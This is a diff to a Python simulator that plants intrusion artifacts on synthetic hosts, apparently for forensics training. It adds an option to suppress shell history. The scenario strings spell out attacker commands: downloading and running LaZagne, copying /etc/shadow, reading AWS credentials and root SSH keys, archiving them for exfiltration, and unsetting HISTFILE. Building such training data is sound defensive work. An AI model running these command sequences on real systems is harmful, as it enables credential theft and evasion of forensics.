@@ -176,7 +176,7 @@ def _every(h: Host, start: float, minutes: int, user: str, cmd: str, until: floa
 
 
 def _stolen_key_login(h: Host, facts: dict, t: float, ip: str, commands: list[str], minutes: float = 20,
-                      sudo_i: bool = True) -> str:
+                      sudo_i: bool = True, history: bool = True) -> str:
     """An operator logging in with an admin's own key (stolen from a laptop or a CI secret) from an address
     the host has never seen: the fingerprint is a known one, the source is not."""
     user = h.rng.choice(facts.get("admins") or [h.d.default_user])
@@ -187,8 +187,10 @@ def _stolen_key_login(h: Host, facts: dict, t: float, ip: str, commands: list[st
         step = t + 10
         for c in commands:
             step += h.rng.uniform(4, 45)
-            h.history.setdefault("root", []).append((step, c))
-        h.touch("/root/.bash_history", step + 5)
+            if history:
+                h.history.setdefault("root", []).append((step, c))
+        if history:
+            h.touch("/root/.bash_history", step + 5)
     return user
 
 
@@ -603,7 +605,8 @@ def credential_dump(h: Host, facts: dict) -> None:
             f"wget -q https://github.com/AlessandroZ/LaZagne/releases/download/v2.4.5/LaZagne.Linux -O {shm}/lz"
             if rng.random() < 0.5 else "python3 -m pip install --user lazagne 2>/dev/null", f"chmod +x {shm}/lz",
             f"{shm}/lz all -oN -output {shm}", f"cat {shm}/.out", "exit"]
-    user = _stolen_key_login(h, facts, t0, ip, cmds, sudo_i=True)
+    quiet = rng.random() < 0.35  # `export HISTFILE=/dev/null` first: no history at all
+    user = _stolen_key_login(h, facts, t0, ip, cmds, sudo_i=True, history=not quiet)
     shadow = h.path("/etc/shadow")
     h.after.append(lambda: (h.path(f"{shm}/.s").write_bytes(shadow.read_bytes()), os.chmod(h.path(f"{shm}/.s"), 0o644),
                             os.utime(h.path(f"{shm}/.s"), (t0 + 60, t0 + 60))))
@@ -619,7 +622,8 @@ def credential_dump(h: Host, facts: dict) -> None:
             mtime=t0 + 200)
     h.write(f"{shm}/lz", _elf(h, "bot", BOT_C, STRINGS='laZagne", "The LaZagne Project", "mimipy", '
                               '"/etc/shadow", "shadow.py'), 0o755, mtime=t0 + 260)
-    h.notes.append(f"credential dump in {shm} via {user} from {ip} at {time.ctime(t0)}")
+    h.notes.append(f"credential dump in {shm} via {user} from {ip} at {time.ctime(t0)}"
+                   f"{' (no history)' if quiet else ''}")
 
 
 @pattern(("ci",), ALL)
@@ -681,5 +685,6 @@ def exfil_curl(h: Host, facts: dict) -> None:
     cmds = ["id", "ls -la ~/.ssh ~/.aws", "cat ~/.aws/credentials", "sudo cat /root/.ssh/id_* 2>/dev/null",
             f"tar czf {arc} ~/.ssh ~/.aws ~/.docker 2>/dev/null", f"sudo tar rzf {arc} /root/.ssh 2>/dev/null",
             dest, f"rm -f {arc}", "exit"]
-    h.ssh_login(user, ip, t0, 12, commands=cmds)
-    h.notes.append(f"exfil by {user} from {ip} at {time.ctime(t0)}: {dest}")
+    quiet = rng.random() < 0.35  # `unset HISTFILE` first: only the sudo lines remain
+    h.ssh_login(user, ip, t0, 12, commands=(["unset HISTFILE"] if quiet else []) + cmds, history=not quiet)
+    h.notes.append(f"exfil by {user} from {ip} at {time.ctime(t0)}: {dest}{' (no history)' if quiet else ''}")
